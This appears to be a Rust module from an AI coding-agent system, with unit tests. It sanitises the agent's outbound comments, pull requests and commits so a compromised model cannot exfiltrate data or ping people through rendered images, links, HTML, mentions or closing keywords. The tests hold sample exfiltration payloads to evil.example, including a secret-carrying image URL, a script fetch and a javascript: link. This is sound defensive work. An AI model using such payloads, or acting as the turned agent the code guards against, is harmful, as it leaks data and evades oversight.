//! Text hygiene: every text Kiln sends out (comments, review comments, pull
//! request titles and bodies, commit messages, statuses, reports) is made
//! inert here, before redaction, so a turned model cannot use the forge's
//! own rendering against the team:
//! - links and images whose host is not on the allowlist lose their target
//!   (an image becomes a note, a link its plain text, a bare URL a code span);
//!   raw HTML that fetches (`<img>`, `<picture>`, `<iframe>`, ...) is removed;
//! - `@user` and `@org/team` mentions become code spans, except the people
//!   the run answers (the issue or pull request author, the run's actor);
//! - closing keywords (`fixes #N` and kin) are broken (`fixes issue #N`),
//!   except the run's own issue in the body of the pull request that
//!   implements it;
//! - control, invisible and bidi characters are removed (the same set
//!   inbound sanitizing removes).
//!
//! The Markdown is parsed with `pulldown-cmark`, so code spans and blocks stay
//! as written (a link or a mention there is not one), and entities and
//! escapes are seen decoded, as the forge sees them. Edits are made on the
//! source text, so what is not neutralised is left byte for byte.

use std::ops::Range;
use std::sync::LazyLock;

use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};
use regex::Regex;

use crate::policy::sanitize::is_invisible;

/// Which outbound text this is: Markdown or plain, and whether it may close
/// the run's own issue.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TextKind {
    /// An issue or pull request comment, a reply, a report (Markdown).
    Comment,
    /// A review summary or line comment (Markdown).
    Review,
    /// A pull request title (plain; becomes a squash commit's title).
    PullRequestTitle,
    /// A pull request body (Markdown); its own issue may be closed here.
    PullRequestBody,
    /// A commit message (plain).
    CommitMessage,
    /// A commit status description (plain).
    Status,
}

impl TextKind {
    fn markdown(self) -> bool {
        matches!(self, Self::Comment | Self::Review | Self::PullRequestBody)
    }

    /// Name for the run's events.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Comment => "comment",
            Self::Review => "review",
            Self::PullRequestTitle => "pull request title",
            Self::PullRequestBody => "pull request body",
            Self::CommitMessage => "commit message",
            Self::Status => "status description",
        }
    }
}

/// Who and what an outbound text may still point at.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Audience {
    /// `owner/name` of the run's repository.
    pub repo: String,
    /// Logins that may be mentioned (compared case-insensitively).
    pub mentions: Vec<String>,
    /// The issue a pull request body may close.
    pub closes: Option<u64>,
}

/// One thing neutralised, for the run's event log.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Neutralised {
    /// `link`, `image`, `html`, `mention`, `closing-keyword` or `characters`.
    pub what: &'static str,
    /// What it was (clipped).
    pub detail: String,
    /// Why it was neutralised.
    pub why: String,
}

/// Hosts links and images may point at: exact names or `*.suffix`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct LinkHosts {
    hosts: Vec<String>,
}

impl LinkHosts {
    /// The allowlist; entries are host names, `*.example.org` for a domain's
    /// subdomains. Compared case-insensitively.
    pub fn new(hosts: &[String]) -> Self {
        Self {
            hosts: hosts
                .iter()
                .map(|h| h.trim().trim_end_matches('.').to_ascii_lowercase())
                .filter(|h| !h.is_empty())
                .collect(),
        }
    }

    fn allows_host(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        self.hosts.iter().any(|h| match h.strip_prefix("*.") {
            Some(domain) => host
                .strip_suffix(domain)
                .is_some_and(|rest| rest.ends_with('.')),
            None => *h == host,
        })
    }

    /// `None` when `dest` may stay; otherwise why not. A relative link
    /// (same forge) may stay; anything else needs http(s) and an allowed host.
    fn refuse(&self, dest: &str) -> Option<String> {
        static BASE: LazyLock<Option<url::Url>> =
            LazyLock::new(|| url::Url::parse("https://relative.kiln.invalid/").ok());
        let Some(base) = BASE.as_ref() else {
            return Some("the link cannot be checked".into());
        };
        let dest = dest.trim();
        if dest.is_empty() || dest.starts_with('#') {
            return None;
        }
        if let Some(host) = plain_http_host(dest) {
            return if self.allows_host(host) {
                None
            } else {
                Some(format!(
                    "host {} is not on the link allowlist",
                    host.to_ascii_lowercase()
                ))
            };
        }
        let Ok(url) = base.join(dest) else {
            return Some("it is not a valid address".into());
        };
        if !matches!(url.scheme(), "http" | "https") {
            return Some(format!("scheme {:?} is not allowed", url.scheme()));
        }
        match url.host_str() {
            Some("relative.kiln.invalid") if url.scheme() == "https" => None,
            Some(h) if self.allows_host(h) => None,
            Some(h) => Some(format!("host {h} is not on the link allowlist")),
            None => Some("it has no host".into()),
        }
    }
}

/// The host of an address in the plainest form, `http(s)://` then a host
/// name of letters, digits, dots and dashes (no empty label) ended by `/`,
/// `?`, `#` or the end: what nearly every link is. Such an address has
/// this host for any URL parser (no user, port, escape, backslash or white
/// space for one to read differently), so `url`'s full parse is skipped.
/// `None`: anything else, left to `url`.
fn plain_http_host(dest: &str) -> Option<&str> {
    let b = dest.as_bytes();
    let scheme = if b.len() >= 8 && b[..8].eq_ignore_ascii_case(b"https://") {
        8
    } else if b.len() >= 7 && b[..7].eq_ignore_ascii_case(b"http://") {
        7
    } else {
        return None;
    };
    let rest = &dest[scheme..];
    let end = rest
        .bytes()
        .position(|c| !(c.is_ascii_alphanumeric() || c == b'.' || c == b'-'))
        .unwrap_or(rest.len());
    let host = &rest[..end];
    let ends_well = matches!(rest.as_bytes().get(end), None | Some(b'/' | b'?' | b'#'));
    let labels_ok =
        !host.is_empty() && host.trim_end_matches('.').split('.').all(|l| !l.is_empty());
    // A name ending in a number (`0x7f.1`) is an IPv4 address to a parser.
    let numeric = host
        .trim_end_matches('.')
        .rsplit('.')
        .next()
        .is_some_and(|l| l.bytes().next().is_some_and(|c| c.is_ascii_digit()));
    (ends_well && labels_ok && !numeric).then_some(host)
}

/// Tags whose element fetches something when rendered (or runs it).
const FETCHING_TAGS: &[&str] = &[
    "img", "picture", "source", "iframe", "frame", "frameset", "video", "audio", "track", "object",
    "embed", "applet", "link", "script", "style", "svg", "image", "base", "meta", "input", "form",
    "bgsound", "portal", "math",
];

/// Attributes holding an address.
const URL_ATTRS: &[&str] = &[
    "href",
    "src",
    "srcset",
    "background",
    "poster",
    "data",
    "action",
    "formaction",
    "cite",
    "longdesc",
    "xlink:href",
];

static MENTION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"@([A-Za-z0-9][A-Za-z0-9-]{0,38})(/[A-Za-z0-9][A-Za-z0-9_.-]*)?")
        .unwrap_or_else(|e| unreachable!("mention regex: {e}"))
});

static CLOSING: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(?-u:\b)(close[sd]?|fix(?:e[sd])?|resolve[sd]?)(:?[ \t\r\n]+|:)((?:([A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+))?#(\d+)|https?://[^\s/]+/([A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+)/(?:issues|pull)/(\d+))",
    )
    .unwrap_or_else(|e| unreachable!("closing regex: {e}"))
});

static BARE_URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?-u:\b)(?:https?://|www\.)[^\s<>`]+")
        .unwrap_or_else(|e| unreachable!("url regex: {e}"))
});

/// Shortens what is quoted in an event.
fn clip(s: &str) -> String {
    match s.char_indices().nth(80) {
        Some((i, _)) => format!("{}…", &s[..i]),
        None => s.to_owned(),
    }
}

/// One edit of the source: replace `range` with `with`.
struct Edit {
    range: Range<usize>,
    with: String,
}

/// Decoded text of a run of inline events, with where each piece came from.
#[derive(Default)]
struct Inline {
    text: String,
    /// (offset in `text`, source range, whether the piece is the source
    /// verbatim so offsets map one to one)
    pieces: Vec<(usize, Range<usize>, bool)>,
}

impl Inline {
    fn push(&mut self, decoded: &str, src: &str, range: Range<usize>) {
        let verbatim = src.get(range.clone()) == Some(decoded);
        self.pieces.push((self.text.len(), range, verbatim));
        self.text.push_str(decoded);
    }

    /// Source offset of decoded offset `d`, as a start (`end` false) or an
    /// end position.
    fn source(&self, d: usize, end: bool) -> usize {
        let i = self
            .pieces
            .partition_point(|(at, _, _)| if end { *at < d } else { *at <= d })
            .saturating_sub(1);
        let Some((at, range, verbatim)) = self.pieces.get(i) else {
            return 0;
        };
        if *verbatim {
            (range.start + (d - at)).min(range.end)
        } else if end && d > *at {
            range.end
        } else {
            range.start
        }
    }
}

/// Makes `text` inert (see the module docs). Returns the new text and what
/// was neutralised; the text is unchanged when the list is empty.
pub fn make_inert(
    text: &str,
    kind: TextKind,
    hosts: &LinkHosts,
    audience: &Audience,
) -> (String, Vec<Neutralised>) {
    let mut notes = Vec::new();
    // ASCII text (most of it) can only hold the C0 controls and DEL: one
    // byte test, not a char decode per character.
    let ascii = text.is_ascii();
    let removed = if ascii {
        let control = |b: &u8| (*b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r')) || *b == 0x7f;
        if text.as_bytes().iter().any(control) {
            text.as_bytes().iter().filter(|b| control(b)).count()
        } else {
            0
        }
    } else {
        text.chars().filter(|&c| is_invisible(c)).count()
    };
    if removed == 0 && !has_markup(text) {
        // Nothing that links, fetches, pings or closes: left as it is.
        return (text.to_owned(), notes);
    }
    let clean: String = if removed > 0 {
        notes.push(Neutralised {
            what: "characters",
            detail: format!("{removed} control, invisible or bidi characters"),
            why: "they hide or reorder text".into(),
        });
        text.chars().filter(|&c| !is_invisible(c)).collect()
    } else {
        text.to_owned()
    };
    let mut edits = Vec::new();
    if kind.markdown() {
        markdown(&clean, kind, hosts, audience, &mut edits, &mut notes);
    } else {
        let mut inline = Inline::default();
        inline.push(&clean, &clean, 0..clean.len());
        words(&inline, kind, hosts, audience, &mut edits, &mut notes);
    }
    if edits.is_empty() {
        return (clean, notes);
    }
    edits.sort_by_key(|e| (e.range.start, e.range.end));
    let mut out = String::with_capacity(clean.len() + 64);
    let mut at = 0;
    for e in edits {
        // An edit inside one already made (nothing is nested by
        // construction; this keeps a surprise from corrupting the text).
        if e.range.start < at {
            continue;
        }
        out.push_str(clean.get(at..e.range.start).unwrap_or_default());
        out.push_str(&e.with);
        at = e.range.end;
    }
    out.push_str(clean.get(at..).unwrap_or_default());
    (out, notes)
}

/// Whether `text` may hold anything [`make_inert`] changes besides
/// invisible characters: a link or image or reference definition (`[`), HTML
/// or an autolink (`<`), a mention (`@`), a closing keyword's `#` or URL, a
/// bare URL (`://`, `www.`), or an entity or escape that could spell one
/// (`&`, `\\`). Without any, the Markdown parse is skipped: clean text
/// costs a few byte searches.
fn has_markup(text: &str) -> bool {
    let b = text.as_bytes();
    memchr::memchr3(b'[', b'<', b'@', b).is_some()
        || memchr::memchr3(b'#', b'&', b'\\', b).is_some()
        || memchr::memmem::find(b, b"://").is_some()
        || contains_ignore_case(text, "www.")
}

/// Walks the Markdown: links, images and HTML by their events; mentions,
/// keywords and bare URLs in the decoded text between them.
fn markdown(
    src: &str,
    kind: TextKind,
    hosts: &LinkHosts,
    audience: &Audience,
    edits: &mut Vec<Edit>,
    notes: &mut Vec<Neutralised>,
) {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES;
    let parser = Parser::new_ext(src, options);
    // Reference definitions render as nothing, but a later edit of the text
    // could put them to use: an off-allowlist one goes.
    for (_, def) in parser.reference_definitions().iter() {
        if let Some(why) = hosts.refuse(&def.dest) {
            edits.push(Edit {
                range: def.span.clone(),
                with: String::new(),
            });
            notes.push(Neutralised {
                what: "link",
                detail: format!("reference definition to {}", clip(&def.dest)),
                why,
            });
        }
    }
    let mut inline = Inline::default();
    let mut code_block = 0usize;
    // Events inside a replaced image (or autolink) are skipped.
    let mut skip_until: Option<usize> = None;
    // Open links that lose their target: (source range, text start).
    let mut open_links: Vec<Option<Range<usize>>> = Vec::new();
    for (event, range) in parser.into_offset_iter() {
        if let Some(end) = skip_until {
            if range.end <= end {
                continue;
            }
            skip_until = None;
        }
        match event {
            Event::Text(t) if code_block == 0 => inline.push(&t, src, range),
            Event::SoftBreak | Event::HardBreak => inline.push(" ", src, range),
            Event::Start(Tag::Emphasis | Tag::Strong | Tag::Strikethrough)
            | Event::End(TagEnd::Emphasis | TagEnd::Strong | TagEnd::Strikethrough) => {}
            Event::Start(Tag::CodeBlock(_)) => {
                flush(&mut inline, kind, hosts, audience, edits, notes);
                code_block += 1;
            }
            Event::End(TagEnd::CodeBlock) => code_block = code_block.saturating_sub(1),
            Event::Start(Tag::Image { dest_url, .. }) => {
                flush(&mut inline, kind, hosts, audience, edits, notes);
                if let Some(why) = hosts.refuse(&dest_url) {
                    let host = host_of(&dest_url);
                    edits.push(Edit {
                        range: range.clone(),
                        with: format!("(image from {host} removed by Kiln)"),
                    });
                    notes.push(Neutralised {
                        what: "image",
                        detail: clip(&dest_url),
                        why,
                    });
                    skip_until = Some(range.end);
                }
            }
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                ..
            }) => {
                flush(&mut inline, kind, hosts, audience, edits, notes);
                match hosts.refuse(&dest_url) {
                    None => open_links.push(None),
                    Some(why) => {
                        notes.push(Neutralised {
                            what: "link",
                            detail: clip(&dest_url),
                            why,
                        });
                        if matches!(link_type, LinkType::Autolink | LinkType::Email) {
                            // The text is the address: shown, not linked.
                            edits.push(Edit {
                                range: range.clone(),
                                with: code_span(&dest_url),
                            });
                            // Its end event is skipped with the rest,
                            // so it is not on the stack of open links.
                            skip_until = Some(range.end);
                        } else {
                            open_links.push(Some(range));
                        }
                    }
                }
            }
            Event::End(TagEnd::Link) => {
                flush(&mut inline, kind, hosts, audience, edits, notes);
                if let Some(Some(link)) = open_links.pop() {
                    unwrap_link(src, link, edits);
                }
            }
            Event::Html(html) | Event::InlineHtml(html) => {
                flush(&mut inline, kind, hosts, audience, edits, notes);
                if code_block == 0 {
                    html_edits(&html, range, src, hosts, edits, notes);
                }
            }
            _ => flush(&mut inline, kind, hosts, audience, edits, notes),
        }
    }
    flush(&mut inline, kind, hosts, audience, edits, notes);
}

/// Removes a link's syntax around its text: `[text](dest)` becomes `text`.
fn unwrap_link(src: &str, link: Range<usize>, edits: &mut Vec<Edit>) {
    let Some(s) = src.get(link.clone()) else {
        return;
    };
    // The text sits between the first `[` and its matching `]`.
    let mut depth = 0usize;
    let mut close = None;
    let mut escaped = false;
    for (i, c) in s.char_indices() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' => escaped = true,
            '[' => depth += 1,
            ']' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    close = Some(i);
                    break;
                }
            }
            _ => {}
        }
    }
    match (s.starts_with('['), close) {
        (true, Some(close)) => {
            edits.push(Edit {
                range: link.start..link.start + 1,
                with: String::new(),
            });
            edits.push(Edit {
                range: link.start + close..link.end,
                with: String::new(),
            });
        }
        // Not the usual shape: the whole link goes, as a code span.
        _ => edits.push(Edit {
            range: link,
            with: code_span(s),
        }),
    }
}

fn host_of(dest: &str) -> String {
    url::Url::parse(dest)
        .ok()
        .and_then(|u| u.host_str().map(str::to_owned))
        .unwrap_or_else(|| "elsewhere".into())
}

/// `text` as a code span, with a fence longer than any backtick run in it.
fn code_span(text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest + 1);
    let pad = if text.starts_with('`') || text.ends_with('`') {
        " "
    } else {
        ""
    };
    format!("{fence}{pad}{text}{pad}{fence}")
}

/// Removes fetching tags (with the content of `script` and `style`) and
/// tags with an off-allowlist address from one HTML event.
fn html_edits(
    html: &str,
    range: Range<usize>,
    src: &str,
    hosts: &LinkHosts,
    edits: &mut Vec<Edit>,
    notes: &mut Vec<Neutralised>,
) {
    // Offsets are the source's when the event is the source verbatim (it
    // is for HTML); otherwise the whole event goes if anything is wrong.
    let verbatim = src.get(range.clone()) == Some(html);
    let mut found: Vec<(Range<usize>, String, String)> = Vec::new();
    let lower = html.to_ascii_lowercase();
    let mut i = 0;
    while let Some(rel) = lower.get(i..).and_then(|s| s.find('<')) {
        let start = i + rel;
        let Some((tag, closing, end)) = parse_tag(html, start) else {
            i = start + 1;
            continue;
        };
        i = end;
        let mut span = start..end;
        let why = if FETCHING_TAGS.contains(&tag.as_str()) {
            if !closing && (tag == "script" || tag == "style") {
                // Its content goes with it.
                let close = format!("</{tag}");
                span.end = lower
                    .get(end..)
                    .and_then(|s| s.find(&close))
                    .and_then(|c| {
                        lower
                            .get(end + c..)
                            .and_then(|s| s.find('>'))
                            .map(|g| end + c + g + 1)
                    })
                    .unwrap_or(html.len());
                i = span.end;
            }
            Some(format!("<{tag}> fetches or runs content when shown"))
        } else if closing {
            None
        } else {
            // An address needs an attribute value: a tag without `=` has none.
            let tag_text = html.get(start..end).unwrap_or_default();
            if tag_text.contains('=') {
                attr_urls(tag_text)
                    .into_iter()
                    .find_map(|u| hosts.refuse(&u))
            } else {
                None
            }
        };
        if let Some(why) = why {
            found.push((span, tag, why));
        }
    }
    // A closing `</a>` of a removed `<a>` is left: harmless without its start.
    for (span, tag, why) in found {
        notes.push(Neutralised {
            what: "html",
            detail: clip(html.get(span.clone()).unwrap_or(&tag)),
            why,
        });
        let range = if verbatim {
            range.start + span.start..range.start + span.end
        } else {
            range.clone()
        };
        edits.push(Edit {
            range,
            with: String::new(),
        });
    }
}

/// A tag starting at `start` (`<name ...>` or `</name>`): its lower-case
/// name, whether it closes, and the offset after its `>` (or the end).
fn parse_tag(html: &str, start: usize) -> Option<(String, bool, usize)> {
    let rest = html.get(start + 1..)?;
    let (closing, rest) = match rest.strip_prefix('/') {
        Some(r) => (true, r),
        None => (false, rest),
    };
    let name: String = rest
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '-' || *c == ':')
        .collect();
    if name.is_empty() || !name.starts_with(|c: char| c.is_ascii_alphabetic()) {
        return None;
    }
    let after = start + 1 + usize::from(closing) + name.len();
    // Up to the `>` outside quotes.
    let mut quote = None;
    let mut end = html.len();
    for (i, c) in html.get(after..)?.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (None, '"' | '\'') => quote = Some(c),
            (None, '>') => {
                end = after + i + 1;
                break;
            }
            _ => {}
        }
    }
    Some((name.to_ascii_lowercase(), closing, end))
}

/// The values of a tag's address attributes (entities decoded enough to
/// catch `&#58;`-style hiding: a value that still looks encoded is refused
/// by the caller as not a valid address).
fn attr_urls(tag: &str) -> Vec<String> {
    static ATTR: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"(?i)([a-z:-]+)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))"#)
            .unwrap_or_else(|e| unreachable!("attr regex: {e}"))
    });
    ATTR.captures_iter(tag)
        .filter(|c| {
            c.get(1)
                .is_some_and(|n| URL_ATTRS.contains(&n.as_str().to_ascii_lowercase().as_str()))
        })
        .filter_map(|c| c.get(2).or(c.get(3)).or(c.get(4)))
        .flat_map(|v| {
            let v = decode_entities(v.as_str());
            // srcset: "a.png 1x, b.png 2x"
            v.split(',')
                .filter_map(|s| s.split_whitespace().next().map(str::to_owned))
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Decodes numeric character references and the few named ones an address
/// uses, as a browser would before fetching.
fn decode_entities(s: &str) -> String {
    static ENTITY: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?i)&(#x[0-9a-f]+|#[0-9]+|colon|sol|period|amp|quot|apos|lt|gt);?")
            .unwrap_or_else(|e| unreachable!("entity regex: {e}"))
    });
    ENTITY
        .replace_all(s, |c: &regex::Captures<'_>| {
            let e = c.get(1).map_or("", |m| m.as_str()).to_ascii_lowercase();
            let ch = if let Some(hex) = e.strip_prefix("#x") {
                u32::from_str_radix(hex, 16).ok().and_then(char::from_u32)
            } else if let Some(dec) = e.strip_prefix('#') {
                dec.parse().ok().and_then(char::from_u32)
            } else {
                match e.as_str() {
                    "colon" => Some(':'),
                    "sol" => Some('/'),
                    "period" => Some('.'),
                    "amp" => Some('&'),
                    "quot" => Some('"'),
                    "apos" => Some('\''),
                    "lt" => Some('<'),
                    "gt" => Some('>'),
                    _ => None,
                }
            };
            ch.map(String::from).unwrap_or_default()
        })
        .into_owned()
}

/// Scans a run of inline text, then starts a new one.
fn flush(
    inline: &mut Inline,
    kind: TextKind,
    hosts: &LinkHosts,
    audience: &Audience,
    edits: &mut Vec<Edit>,
    notes: &mut Vec<Neutralised>,
) {
    if !inline.text.is_empty() {
        words(inline, kind, hosts, audience, edits, notes);
    }
    // Emptied, not dropped: the next run reuses the buffers.
    inline.text.clear();
    inline.pieces.clear();
}

/// Whether `text` holds `needle` (ASCII, lowercase) in any case.
fn contains_ignore_case(text: &str, needle: &str) -> bool {
    let (t, n) = (text.as_bytes(), needle.as_bytes());
    let Some(&first) = n.first() else {
        return true;
    };
    memchr::memchr2_iter(first, first.to_ascii_uppercase(), t).any(|i| {
        t.get(i..i + n.len())
            .is_some_and(|w| w.eq_ignore_ascii_case(n))
    })
}

/// Mentions, closing keywords and bare URLs in decoded text.
fn words(
    inline: &Inline,
    kind: TextKind,
    hosts: &LinkHosts,
    audience: &Audience,
    edits: &mut Vec<Edit>,
    notes: &mut Vec<Neutralised>,
) {
    let text = &inline.text;
    let mut taken: Vec<Range<usize>> = Vec::new();
    // Each pattern needs a literal: a URL `://` or `www.`, a closing
    // keyword `#` or a URL, a mention `@`. Most runs of text hold none, and
    // a byte search is much cheaper than a regex call.
    let url = memchr::memmem::find(text.as_bytes(), b"://").is_some();
    let www = contains_ignore_case(text, "www.");
    let hash = memchr::memchr(b'#', text.as_bytes()).is_some();
    let at = memchr::memchr(b'@', text.as_bytes()).is_some();
    let urls = if url || www {
        Some(BARE_URL.find_iter(text))
    } else {
        None
    };
    for m in urls.into_iter().flatten() {
        let url = m
            .as_str()
            .trim_end_matches(['.', ',', ';', ':', '!', '?', ')', '\'', '"', '*', '_']);
        let dest = if url.to_ascii_lowercase().starts_with("www.") {
            format!("https://{url}")
        } else {
            url.to_owned()
        };
        let Some(why) = hosts.refuse(&dest) else {
            continue;
        };
        let d = m.start()..m.start() + url.len();
        taken.push(d.clone());
        notes.push(Neutralised {
            what: "link",
            detail: clip(url),
            why,
        });
        wrap(inline, d, kind, edits);
    }
    let closings = if hash || url {
        Some(CLOSING.captures_iter(text))
    } else {
        None
    };
    for c in closings.into_iter().flatten() {
        let (Some(all), Some(reference)) = (c.get(0), c.get(3)) else {
            continue;
        };
        if taken
            .iter()
            .any(|t| t.start < all.end() && all.start() < t.end)
        {
            continue;
        }
        let repo = c.get(4).or(c.get(6)).map(|m| m.as_str());
        let number = c
            .get(5)
            .or(c.get(7))
            .and_then(|m| m.as_str().parse::<u64>().ok());
        let own_repo = repo.is_none_or(|r| r.eq_ignore_ascii_case(&audience.repo));
        if kind == TextKind::PullRequestBody
            && own_repo
            && number.is_some()
            && number == audience.closes
        {
            continue;
        }
        let at = inline.source(reference.start(), false);
        edits.push(Edit {
            range: at..at,
            with: "issue ".into(),
        });
        notes.push(Neutralised {
            what: "closing-keyword",
            detail: clip(all.as_str()),
            why: "merging would close an issue this run does not implement".into(),
        });
    }
    let mentions = if at {
        Some(MENTION.find_iter(text))
    } else {
        None
    };
    for m in mentions.into_iter().flatten() {
        // A mention starts a word: not inside an e-mail address, a path or
        // a longer word.
        let before = text.get(..m.start()).and_then(|s| s.chars().next_back());
        if before.is_some_and(|c| c.is_alphanumeric() || "`/@._-".contains(c)) {
            continue;
        }
        if taken.iter().any(|t| t.start < m.end() && m.start() < t.end) {
            continue;
        }
        let login = m.as_str().trim_start_matches('@');
        let team = login.contains('/');
        if !team
            && audience
                .mentions
                .iter()
                .any(|a| a.eq_ignore_ascii_case(login))
        {
            continue;
        }
        notes.push(Neutralised {
            what: "mention",
            detail: m.as_str().to_owned(),
            why: if team {
                "a team is never pinged by an agent".into()
            } else {
                "only the people this run answers are pinged".into()
            },
        });
        wrap(inline, m.range(), kind, edits);
    }
}

/// Makes decoded range `d` inert in place: a code span in Markdown; in plain
/// text the `@` or scheme is set apart so nothing links or pings.
fn wrap(inline: &Inline, d: Range<usize>, kind: TextKind, edits: &mut Vec<Edit>) {
    let (s, e) = (inline.source(d.start, false), inline.source(d.end, true));
    if kind.markdown() {
        edits.push(Edit {
            range: s..s,
            with: "`".into(),
        });
        edits.push(Edit {
            range: e..e,
            with: "`".into(),
        });
    } else {
        edits.push(Edit {
            range: s..s,
            with: "\u{2018}".into(),
        });
        edits.push(Edit {
            range: e..e,
            with: "\u{2019}".into(),
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts() -> LinkHosts {
        LinkHosts::new(&["github.com".into(), "*.githubusercontent.com".into()])
    }

    fn audience() -> Audience {
        Audience {
            repo: "acme/widgets".into(),
            mentions: vec!["Alice".into()],
            closes: Some(12),
        }
    }

    fn inert(text: &str, kind: TextKind) -> (String, Vec<&'static str>) {
        let (out, notes) = make_inert(text, kind, &hosts(), &audience());
        (out, notes.iter().map(|n| n.what).collect())
    }

    fn comment(text: &str) -> String {
        inert(text, TextKind::Comment).0
    }

    #[test]
    fn ordinary_text_is_left_byte_for_byte() {
        let text = "Thanks @alice! See [the docs](https://github.com/acme/widgets/blob/main/README.md), \
                    ![shot](https://user-images.githubusercontent.com/1/2.png), [rel](docs/a.md), \
                    mail a@b.example, `@team` and fixes in code:\n\n```\nFixes #3 @org/team ![x](https://evil.example/x)\n```\n";
        let (out, notes) = inert(text, TextKind::Comment);
        assert_eq!(out, text);
        assert!(notes.is_empty(), "{notes:?}");
    }

    #[test]
    fn off_allowlist_images_become_notes_and_links_plain_text() {
        let out = comment(
            "Look ![leak](https://evil.example/p.png?d=SECRET) and [here](https://evil.example/x?q=1) ok",
        );
        assert_eq!(
            out,
            "Look (image from evil.example removed by Kiln) and here ok"
        );
        // Reference style: the link and its definition both go.
        let out = comment(
            "See [docs][d] and ![i][p].\n\n[d]: https://evil.example/a\n[p]: https://evil.example/b.png\n",
        );
        assert!(!out.contains("https://evil.example"), "{out}");
        assert!(out.contains("See docs and (image from"), "{out}");
        // Autolinks and bare URLs stay readable but cannot be followed.
        let out =
            comment("<https://evil.example/a> and https://evil.example/b, www.evil.example/c.");
        assert_eq!(
            out,
            "`https://evil.example/a` and `https://evil.example/b`, `www.evil.example/c`."
        );
        // Entities and odd schemes do not get around the host check.
        for text in [
            "![x](https&#58;//evil.example/p.png)",
            "![x](//evil.example/p.png)",
            "[x](javascript:alert(1))",
            "[x](data:text/html,hi)",
            "![x](HTTPS://EVIL.EXAMPLE/p.png)",
            "[x](https://github.com.evil.example/)",
        ] {
            let out = comment(text);
            assert!(
                !out.contains("](") && !out.contains("evil.example/p"),
                "{text} -> {out}"
            );
        }
    }

    #[test]
    fn fetching_html_is_removed() {
        for (text, gone) in [
            ("a <img src=\"https://evil.example/p.png\"> b", "<img"),
            (
                "<picture><source srcset=\"https://evil.example/a.png\"></picture>",
                "<source",
            ),
            ("<iframe src=x></iframe>", "<iframe"),
            ("<video poster=\"https://evil.example\"></video>", "<video"),
            ("<script>fetch('https://evil.example')</script>", "fetch"),
            (
                "<style>body{background:url(https://evil.example)}</style>",
                "url(",
            ),
            ("<IMG SRC=https://evil.example/p.png>", "IMG"),
            (
                "<details><summary>x</summary><img src=https://evil.example></details>",
                "<img",
            ),
            ("<a href=\"https://evil.example/\">click</a>", "href"),
            ("<a href=\"https&#x3a;//evil.example/\">click</a>", "href"),
            (
                "<table background=\"https://evil.example/\"><tr><td>x</td></tr></table>",
                "background",
            ),
        ] {
            let (out, notes) = inert(text, TextKind::Comment);
            assert!(!out.contains(gone), "{text} -> {out}");
            assert!(notes.contains(&"html"), "{text}: {notes:?}");
        }
        // Harmless HTML and allowed hosts stay.
        let text = "<details><summary>Log</summary>\n\nok\n</details> <a href=\"https://github.com/x\">x</a>";
        assert_eq!(comment(text), text);
        // HTML in code is text.
        let text = "`<img src=https://evil.example>`";
        assert_eq!(comment(text), text);
    }

    #[test]
    fn mentions_of_others_are_neutralised() {
        assert_eq!(
            comment("cc @acme/security-team and @mallory, thanks @alice and @ALICE"),
            "cc `@acme/security-team` and `@mallory`, thanks @alice and @ALICE"
        );
        // Not mentions: e-mail, paths, code, an already quoted one.
        let text = "mail bob@example.org, path a/@b, `@mallory`, ```@x```";
        assert_eq!(comment(text), text);
        // A mention hidden by an entity or a zero-width joiner still counts.
        let out = comment("hi &#64;mallory");
        assert!(out.contains("`&#64;mallory`"), "{out}");
        let out = comment("hi @\u{200b}mallory");
        assert_eq!(out, "hi `@mallory`");
        // Inside emphasis and links too.
        let out = comment("**@mallory** [@eve](https://github.com/eve)");
        assert!(
            out.contains("`@mallory`") && out.contains("`@eve`"),
            "{out}"
        );
    }

    #[test]
    fn closing_keywords_close_only_the_runs_own_issue_from_its_pull_request() {
        let body = |t: &str| inert(t, TextKind::PullRequestBody).0;
        assert_eq!(body("Fixes #12"), "Fixes #12");
        assert_eq!(body("Closes acme/widgets#12"), "Closes acme/widgets#12");
        assert_eq!(
            body("resolves https://github.com/acme/widgets/issues/12"),
            "resolves https://github.com/acme/widgets/issues/12"
        );
        assert_eq!(body("Fixes #13"), "Fixes issue #13");
        assert_eq!(body("Fixes other/repo#12"), "Fixes issue other/repo#12");
        assert_eq!(
            body("FIXED: #7, closed #8 and Resolve #9"),
            "FIXED: issue #7, closed issue #8 and Resolve issue #9"
        );
        // Not from a comment, a title or a commit message, even the own issue.
        assert_eq!(comment("Fixes #12"), "Fixes issue #12");
        assert_eq!(
            inert("Fix typo (fixes #12)", TextKind::PullRequestTitle).0,
            "Fix typo (fixes issue #12)"
        );
        assert_eq!(
            inert("Close #12\n\nbody", TextKind::CommitMessage).0,
            "Close issue #12\n\nbody"
        );
        // Zero-width characters, entities and emphasis do not hide it.
        assert_eq!(comment("Fi\u{200b}xes #3"), "Fixes issue #3");
        assert_eq!(comment("F&#105;xes #3"), "F&#105;xes issue #3");
        assert_eq!(comment("**Fixes** #3"), "**Fixes** issue #3");
        assert_eq!(
